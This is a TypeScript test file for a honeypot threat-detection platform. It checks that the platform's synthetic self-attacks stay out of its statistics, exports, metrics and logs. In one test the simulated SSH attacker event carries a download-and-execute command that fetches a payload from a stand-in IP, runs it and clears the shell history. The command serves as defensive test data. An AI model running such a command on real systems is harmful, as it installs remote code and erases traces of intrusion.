import type { SloStatus, SyntheticRun } from '@eviltwin/contract'
import { afterEach, describe, expect, inject, test } from 'vitest'
import { openFeed } from '../../testing/test-feed.js'
import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
import { until } from '../../testing/until.js'

const ENVIRONMENT = {
  SYNTHETIC_ATTACKS: 'on',
  SYNTHETIC_INTERVAL_SECONDS: '86400',
  SYNTHETIC_WINDOW_SECONDS: '30',
}
/** Lines of the log in which what attackers do is. */
const LINES_OF_ATTACKERS = ['Event ingested', 'Score computed', 'Alert queued', 'WebSocket broadcast']
/** Metrics that count what they do. */
const COUNTED =
  /^(eviltwin_(events|sessions|alerts|alert_delivery)|scoring_(ml|degraded)_count|events_ingested|sessions_scored)\w*[{ ]/
const ATTACKER = {
  source_ip: '198.51.100.9',
  sensor_id: 'decoy-9',
  session_id: 'an attacker',
  protocol: 'ssh',
  occurred_at: new Date().toISOString(),
}
/** What is exported about indicators, in each of its formats. */
const EXPORTS = [
  '/feeds/blocklist.txt?threat_level=low',
  '/feeds/stix?threat_level=low',
  ...['json', 'csv', 'stix', 'misp'].map((format) => `/feeds/iocs?threat_level=low&format=${format}`),
  '/feeds/preview?threat_level=low&limit=100',
]
const OBJECTIVES_OF_USERS = [
  'ingest-availability',
  'ingest-latency',
  'hec-availability',
  'hec-latency',
  'alert-delivery-delay',
]

/** What the routes answer, and what `/metrics` shows, has no number of what the platform did to itself. */
describe.each(inject('postgresServers'))('numbers without attacks of the platform on $version', (server) => {
  const open: TestPlatform[] = []
  afterEach(async () => {
    for (const platform of open.splice(0)) await platform.close()
  })

  /** A platform that attacked itself by both ways, and nothing else. */
  async function attacked() {
    const platform = await startTestPlatform(server, { environment: ENVIRONMENT })
    open.push(platform)
    const admin = await platform.login()
    const text = async (path: string) => (await platform.call(path, { as: admin })).text()
    const get = async <Answer>(path: string) => JSON.parse(await text(path)) as Answer
    await platform.platform.beginAttacks(platform.url)
    const runs = await until(async () => {
      const { items } = await get<{ items: SyntheticRun[] }>('/synthetic/runs')
      return items.length === 2 && items.every(({ outcome }) => outcome === 'detected') && items
    })
    return { platform, admin, text, get, runs }
  }

  test('totals, the weekly review, the first steps and objectives of users are those of an idle platform', async () => {
    const { get } = await attacked()
    const stats = await get<Record<string, unknown>>('/dashboard/stats?hours=24')
    expect(stats).toMatchObject({
      total_events: 0,
      unique_attackers: 0,
      active_sessions: 0,
      total_sessions: 0,
      sessions_by_level: { low: 0, medium: 0, high: 0, critical: 0 },
      alerts: { raised: 0 },
    })
    expect(await get('/dashboard/countries?hours=24')).toMatchObject({ items: [], unknown_sessions: 0 })
    expect(await get('/sessions?count=true')).toMatchObject({ items: [], total: 0 })
    expect(await get('/attackers?count=true')).toMatchObject({ items: [], total: 0 })
    expect(await get('/alerts?count=true')).toMatchObject({ items: [], total: 0 })
    expect(await get('/sensors')).toMatchObject({ items: [] })
    expect(await get('/ops/review?days=7')).toMatchObject({ ingest_latency: { requests: { this_week: 0 } } })
    const { steps } = await get<{ steps: Array<{ id: string; done: boolean }> }>('/setup')
    expect(steps.find(({ id }) => id === 'sensor')).toMatchObject({ done: false })
    for (const id of OBJECTIVES_OF_USERS)
      expect([id, (await get<SloStatus>(`/slos/${id}`)).measured.total]).toEqual([id, 0])
  })

  test('no export names them, in any format', async () => {
    const { text, runs } = await attacked()
    const secrets = runs.flatMap(({ source_ip, session_id, sensor_id }) => [
      source_ip,
      session_id ?? '',
      sensor_id,
    ])
    // What the commands of an attack point to.
    secrets.push('192.0.2.66')
    for (const path of EXPORTS) {
      const answer = await text(path)
      expect([path, secrets.filter((secret) => answer.includes(secret))]).toEqual([path, []])
    }
  })

  test('metrics and the log begin with the first attacker, and so does a live feed that is resumed from its begin', async () => {
    const { platform, admin, text } = await attacked()
    const counted = async () => {
      const lines = (await text('/metrics')).split('\n').filter((line) => COUNTED.test(line))
      return lines.filter((line) => !line.endsWith(' 0'))
    }
    const logged = () => platform.logged.filter(({ message }) => LINES_OF_ATTACKERS.includes(String(message)))
    const named = async () =>
      (await text('/metrics')).split('\n').filter((line) => /synthetic-(log|hec)/.test(line))
    expect([await counted(), logged(), await named()]).toEqual([[], [], []])

    const feed = await openFeed(platform, admin, '0')
    const send = async (part: object) => {
      const answer = await platform.send(JSON.stringify({ ...ATTACKER, ...part }))
      expect(answer.status).toBe(200)
    }
    await send({ event_type: 'login_attempt', outcome: 'success', username: 'root' })
    await send({
      event_type: 'command',
      command: 'cd /tmp && wget http://192.0.2.99/x -O .x && chmod 777 .x && ./.x; history -c',
    })
    const alerts = await feed.until(1)
    expect(alerts.map(({ source_ip }) => source_ip)).toEqual([ATTACKER.source_ip])
    expect((await counted()).length).toBeGreaterThan(3)
    expect(new Set(logged().map(({ message }) => message))).toEqual(new Set(LINES_OF_ATTACKERS))
    await feed.close()
  })

  test('nothing can be asked about their sessions', async () => {
    const { platform, admin, runs } = await attacked()
    for (const { session_id, source_ip } of runs) {
      for (const path of [`/sessions/${session_id}`, `/sessions/${session_id}/iocs`, `/score/${source_ip}`])
        expect([path, (await platform.call(path, { as: admin })).status]).toEqual([path, 404])
      const analysed = await platform.call('/ai/analyze', {
        method: 'POST',
        as: admin,
        body: JSON.stringify({ session_id }),
      })
      expect([404, 503]).toContain(analysed.status)
    }
  })
})
